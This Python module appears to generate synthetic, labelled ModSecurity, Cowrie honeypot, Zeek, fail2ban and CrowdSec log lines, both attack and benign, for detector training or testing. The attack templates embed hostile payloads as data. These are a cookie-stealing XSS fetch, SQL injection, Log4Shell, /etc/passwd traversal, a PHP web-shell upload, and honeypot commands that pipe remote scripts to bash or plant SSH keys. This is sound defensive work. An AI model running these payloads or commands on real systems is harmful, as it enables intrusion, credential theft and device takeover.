"""ModSecurity, CrowdSec, fail2ban, honeypots and Zeek notices."""

from __future__ import annotations

from generator.families.cloud.render import compact
from generator.scene import Label, Scene, attack, benign, family
from generator.world import World


def _modsecurity(world: World, rule: str, message: str, data: str, uri: str) -> str:
    if world.chance(0.3):
        return compact({"transaction": {"client_ip": world.ip(), "time_stamp": f"{world.now:%a %b %d %H:%M:%S %Y}", "request": {"method": "GET", "uri": uri, "http_version": 1.1}, "response": {"http_code": world.pick([200, 403])}, "messages": [{"message": message, "details": {"ruleId": rule, "data": data, "severity": "2"}}]}})
    return f'[{world.now:%a %b %d %H:%M:%S.%f %Y}] [:error] [pid {world.pid()}] [client {world.ip()}:{world.port()}] ModSecurity: {world.pick(["Warning.", "Access denied with code 403 (phase 2)."])} Matched "Operator `Rx\'" [file "/etc/modsecurity/crs/rules/REQUEST-{rule[:3]}.conf"] [id "{rule}"] [msg "{message}"] [data "{data}"] [severity "CRITICAL"] [hostname "{world.domain}"] [uri "{uri}"] [unique_id "{world.hex(16)}"]'


@family("alerts/modsecurity-attack", attack=True)
def modsecurity_attack(world: World) -> Scene:
    label, rule, message, data, uri = world.pick([
        (attack("SQL Injection — UNION-based SQLi", "T1190", severity="HIGH"), "942100", "SQL Injection Attack Detected via libinjection", "1' UNION SELECT user,password FROM wp_users-- found within ARGS:id", "/product.php"), (attack("Cross-Site Scripting (XSS) Attempt", "T1059.007", severity="HIGH"), "941100", "XSS Attack Detected via libinjection", "<script>fetch('//x.ht/'+document.cookie)</script> found within ARGS:q", "/search"), (attack("OS Command Injection Attempt", "T1059.004", severity="CRITICAL"), "932160", "Remote Command Execution: Unix Shell Code Found", "bin/bash -c id;wget found within ARGS:ip", "/cgi-bin/ping"), (attack("Path Traversal / Directory Traversal Attack", "T1083", severity="HIGH"), "930120", "OS File Access Attempt", "../../../../etc/passwd found within ARGS:file", "/download.php"), (attack("Remote Code Execution Exploit", "T1190", severity="CRITICAL"), "944150", "Potential Remote Command Execution: Log4j / Log4shell", "${jndi:ldap://" + world.ip_public() + "/a} found within REQUEST_HEADERS:User-Agent", "/"), (attack("Web Shell", "T1505.003", severity="CRITICAL"), "933110", "PHP Injection Attack: PHP Script File Upload Found", "x.php.jpg <?php eval( found within FILES", "/wp-content/uploads/"), (attack("Automated Reconnaissance / Vulnerability Scanning", "T1595.002", severity="MEDIUM"), "913100", "Found User-Agent associated with security scanner", "sqlmap/1.7 found within REQUEST_HEADERS:User-Agent", "/index.php"),
    ])
    scene = Scene()
    for _ in range(world.pick([1, 1, 2, 4])):
        world.tick(1, 30)
        scene.add(_modsecurity(world, rule, message, data, uri), label)
    return scene


@family("alerts/modsecurity-false-positive", attack=False)
def modsecurity_false_positive(world: World) -> Scene:
    scene = Scene()
    rows = [("942100", "SQL Injection Attack Detected via libinjection", "O'Neill and sons; select a date found within ARGS:comment", "/contact"), ("941100", "XSS Attack Detected via libinjection", "<p style=margin:0><b>News</b></p> found within ARGS:content", "/wp-admin/post.php"), ("932160", "Remote Command Execution: Unix Shell Code Found", "cat food found within ARGS:q", "/shop/search"), ("930120", "OS File Access Attempt", "../img/logo.png found within ARGS:src", "/editor/preview"), ("920350", "Host header is a numeric IP address", world.ip_private(), "/health"), ("920320", "Missing User Agent Header", "REQUEST_HEADERS", "/status"), ("911100", "Method is not allowed by policy", "PATCH", "/api/order/17"), ("949110", "Inbound Anomaly Score Exceeded (Total Score: 5)", "/api/import", "/api/import"), ("933210", "PHP Injection Attack: Variable Function Call Found", "Total (net) (EUR) found within ARGS:note", "/invoice/save"), ("913100", "Found User-Agent associated with scripting/generic HTTP client", "python-requests/2.31 found within REQUEST_HEADERS:User-Agent", "/api/stock")]
    for rule, message, data, uri in world.some(rows, 1, world.pick([1, 1, 2])):
        world.tick(1, 30)
        scene.add(_modsecurity(world, rule, message, data, uri), benign("Normal Traffic"))
    return scene


def _honeypot(world: World, name: str, **details: str) -> str:
    return compact({"eventid": f"cowrie.{name}", "src_ip": world.ip_public(), "session": world.hex(12), "sensor": "honeypot", "timestamp": world.time_iso(6), **details})


@family("alerts/honeypot-intruder", attack=True)
def honeypot_intruder(world: World) -> Scene:
    scene, label = Scene(), attack("Command and Control", "T1105", "T1059.004", severity="HIGH")
    address = world.ip_public()
    commands = [f"cd /tmp; wget http://{address}/bins.sh; chmod 777 bins.sh; sh bins.sh", "uname -s -v -n -r -m; cat /proc/cpuinfo | grep name | wc -l", "echo -e \"root123\\nroot123\"|passwd", "cd ~; rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3Nza mdrfckr\">>.ssh/authorized_keys", f"tftp -g -r mips {address}; ./mips", "/bin/busybox MIRAI", "nproc; crontab -r; curl -s http://" + address + "/x|bash"]
    scene.add(_honeypot(world, "login.success", username="root", password=world.pick(["123456", "admin", "root"]), message="login attempt succeeded"), label)
    for command in world.some(commands, 1, 3):
        world.tick(1, 10)
        scene.add(_honeypot(world, "command.input", input=command, message=f"CMD: {command}"), label)
    return scene


@family("alerts/honeypot-noise", attack=False)
def honeypot_noise(world: World) -> Scene:
    scene = Scene()
    for _ in range(world.pick([1, 1, 2])):
        world.tick(5, 600)
        name, message = world.pick([("session.connect", "New connection"), ("session.closed", "Connection lost after 0 seconds"), ("client.version", "Remote SSH version: SSH-2.0-Go"), ("client.version", "Remote SSH version: SSH-2.0-ZGrab ZGrab SSH Survey"), ("log.closed", "Closing TTY log after 1 seconds"), ("login.failed", "login attempt [nproc/nproc] failed")])
        scene.add(_honeypot(world, name, message=message), benign("Blocked Noise"))
    return scene


def _zeek(world: World, note: str, message: str) -> str:
    source, target = world.ip(), world.ip()
    if world.chance(0.5):
        return compact({"ts": round(world.now.timestamp(), 6), "uid": "C" + world.hex(16), "id.orig_h": source, "id.resp_h": target, "note": note, "msg": message, "actions": ["Notice::ACTION_LOG"], "suppress_for": 3600.0})
    return f"{world.now.timestamp():.6f}\tC{world.hex(16)}\t{source}\t{world.port()}\t{target}\t{world.pick([22, 80, 443, 445])}\t-\t-\t-\ttcp\t{note}\t{message}\t-\t{source}\t{target}\t-\t-\tNotice::ACTION_LOG\t3600.000000"


def _notices(world: World, rows: list[tuple[Label, str, str]]) -> Scene:
    scene = Scene()
    label, note, message = world.pick(rows)
    for _ in range(world.pick([1, 1, 1, 2, 3])):
        world.tick(1, 100)
        scene.add(_zeek(world, note, message), label)
    return scene


@family("alerts/zeek-serious", attack=True)
def zeek_serious(world: World) -> Scene:
    address = world.ip()
    return _notices(world, [(attack("Port or Network Scan", "T1046", severity="MEDIUM"), "Scan::Port_Scan", f"{address} scanned at least {world.number(15, 900)} unique ports of host in 0m14s"), (attack("Port or Network Scan", "T1046", severity="MEDIUM"), "Scan::Address_Scan", f"{address} scanned at least {world.number(25, 250)} unique hosts on port 445/tcp in 1m2s"), (attack("SSH Brute Force Attack", "T1110.001", severity="HIGH"), "SSH::Password_Guessing", f"{address} appears to be guessing SSH passwords (seen in {world.number(30, 90)} connections)."), (attack("SQL Injection — Union/Boolean SQLi", "T1190", severity="HIGH"), "HTTP::SQL_Injection_Attacker", "An SQL injection attacker was discovered: /p?id=1'+and+1=1--"), (attack("Lateral Movement", "T1021.002", "T1569.002", severity="HIGH"), "ATTACK::Lateral_Movement_Extracted_File", "psexesvc.exe written to ADMIN$ and svcctl::CreateServiceW called"), (attack("Malware Detected", "T1204.002", severity="HIGH"), "TeamCymruMalwareHashRegistry::Match", f"Malware Hash Registry Detection rate: {world.number(30, 80)}%  Last seen: 2024-04-02"), (attack("Kerberos or Directory Attack", "T1003.006", severity="CRITICAL"), "ATTACK::Credential_Access", "drsuapi::DRSGetNCChanges used by a client workstation"), (attack("Command and Control", "T1071.001", severity="HIGH"), "Intel::Notice", "Intel hit on cobaltstrike-c2 at SSL::IN_SERVER_NAME")])


@family("alerts/zeek-routine", attack=False)
def zeek_routine(world: World) -> Scene:
    return _notices(world, [(benign("System Activity"), "CaptureLoss::Too_Much_Loss", "The capture loss script detected an estimated loss rate above 4%"), (benign("Network Service"), "SSL::Invalid_Server_Cert", f"SSL certificate validation failed with (self signed certificate) CN=printer.{world.domain}"), (benign("Network Service"), "SSL::Certificate_Expires_Soon", "Certificate is going to expire in 21 days"), (benign("Application Error"), "PacketFilter::Dropped_Packets", "1204 packets dropped after filtering"), (benign("Network Service"), "Software::Vulnerable_Version", "jQuery 1.12 is vulnerable"), (benign("User Login"), "SSH::Interesting_Hostname_Login", f"Possible ssh login from mail.{world.domain}, an interesting hostname"), (benign("Network Service"), "weird", "dns_unmatched_reply"), (benign("Software Update"), "TeamCymruMalwareHashRegistry::Match", f"Malware Hash Registry Detection rate: {world.number(1, 2)}%  Last seen: 2019-04-02, Adobe installer")])


@family("alerts/ban-tools-routine", attack=False)
def ban_tools_routine(world: World) -> Scene:
    scene, address = Scene(), world.ip_public()
    for _ in range(world.pick([1, 1, 2, 3])):
        world.tick(2, 600)
        text, kind = world.pick([(f"{world.time_plain()},123 fail2ban.actions [{world.pid()}]: NOTICE [sshd] Unban {address}", "System Activity"), (f"{world.time_plain()},411 fail2ban.filter [{world.pid()}]: INFO [sshd] Found {address} - {world.time_plain()}", "Mistyped Password"), (f"{world.time_plain()},007 fail2ban.server [{world.pid()}]: INFO rollover performed on /var/log/fail2ban.log", "System Activity"), (f'time="{world.time_iso(0)}" level=info msg="(cscli) ban on Ip {address} from community blocklist, 4h"', "Blocked Noise"), (f'time="{world.time_iso(0)}" level=info msg="{world.number(10, 9000)} new decisions pulled, capi/community-blocklist"', "Software Update"), (f'time="{world.time_iso(0)}" level=error msg="capi: failed to push metrics, retrying"', "Application Error")])
        scene.add(text, benign(kind))
    return scene


@family("alerts/ban-tools-attack", attack=True)
def ban_tools_attack(world: World) -> Scene:
    scene, address, label = Scene(), world.ip_public(), attack("SSH Brute Force Attack", "T1110.001", severity="HIGH")
    if world.chance(0.5):
        for _ in range(world.number(4, 9)):
            world.tick(1, 6)
            scene.add(f"{world.time_plain()},{world.number(100, 999)} fail2ban.filter [{world.pid(False)}]: INFO [sshd] Found {address} - {world.time_plain()}", label)
        return scene.add(f"{world.time_plain()},{world.number(100, 999)} fail2ban.actions [{world.pid(False)}]: NOTICE [sshd] Ban {address}", label)
    scenario, other = world.pick([("ssh-bf", label), ("ssh-slow-bf", label), ("http-probing", attack("Automated Reconnaissance / Vulnerability Scanning", "T1595.002", severity="MEDIUM")), ("http-cve-2021-41773", attack("Remote Code Execution Exploit", "T1190", severity="MEDIUM")), ("iptables-scan-multi_ports", attack("Port or Network Scan", "T1046", severity="MEDIUM"))])
    return scene.add(f'time="{world.time_iso(0)}" level=info msg="Ip {address} performed \'crowdsecurity/{scenario}\' ({world.number(6, 40)} events over {world.number(2, 50)}s) at {world.time_iso(0)}"', other)
